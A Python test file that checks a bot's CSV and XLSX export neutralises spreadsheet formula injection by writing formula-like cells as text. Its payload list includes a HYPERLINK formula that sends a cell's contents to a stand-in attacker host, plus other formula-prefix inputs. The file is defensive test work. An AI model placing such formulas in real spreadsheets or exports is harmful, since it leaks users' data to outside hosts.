"""Exports in CSV and XLSX never hand a spreadsheet a formula: cells that would be evaluated are written as text."""

from __future__ import annotations

import csv
import io

import openpyxl

from bot.core.bot import Bot
from bot.export import render
from handlers.exports import export_records
from tests.conversation import Conversation

DANGEROUS = ['=HYPERLINK("https://angriper.example/?d="&A1;"Klikk")', "+1+1", "-2+3", "@SUM(1)", "\tTab", "\rCR"]


def test_formula_cells_are_text_in_csv_and_xlsx() -> None:
    rows = [{"id": n, "text": text} for n, text in enumerate(DANGEROUS, start=1)]
    rows.append({"id": 99, "text": "Skjermbruk = søvnmangel?"})  # harmless: the formula sign is not first
    table = list(csv.reader(io.StringIO(render(rows, ["id", "text"], "csv").decode("utf-8-sig"))))
    assert [row[1] for row in table[1:-1]] == [f"'{text}" for text in DANGEROUS]
    assert table[-1][1] == "Skjermbruk = søvnmangel?"
    sheet = openpyxl.load_workbook(io.BytesIO(render(rows, ["id", "text"], "xlsx"))).active
    for number, text in enumerate(DANGEROUS, start=2):
        cell = sheet.cell(row=number, column=2)
        # A text cell, shown as written and never evaluated (XML keeps no lone carriage return, hence [1:]).
        assert cell.data_type == "s" and str(cell.value).endswith(text[1:])
    assert sheet.cell(row=2, column=1).data_type == "n"  # numbers stay numbers


async def test_a_topic_that_starts_like_a_formula_is_exported_as_text(staff: Conversation, bot: Bot) -> None:
    await staff.say("tema =1+1 er ikke et tema, men la oss snakke om skjermbruk")
    columns, rows = await export_records(bot.context, "topics", actor="cli:test")
    xlsx = openpyxl.load_workbook(io.BytesIO(render(rows, columns, "xlsx"))).active
    text_cell = xlsx.cell(row=2, column=columns.index("text") + 1)
    assert str(text_cell.value).startswith("=1+1") and text_cell.data_type == "s"
    assert "'=1+1 er ikke" in render(rows, columns, "csv").decode("utf-8-sig")


def test_a_formula_hidden_behind_a_separator_or_spaces_stays_text() -> None:
    rows = [{"id": 1, "text": 'x;=HYPERLINK("https://angriper.example")'}, {"id": 2, "text": "  =1+1"}]
    data = render(rows, ["id", "text"], "csv").decode("utf-8-sig")
    # Every cell is quoted, so Norwegian Excel (which splits on ";") keeps "x;=..." as one text cell.
    assert '"x;=HYPERLINK(""https://angriper.example"")"' in data and '"\'  =1+1"' in data
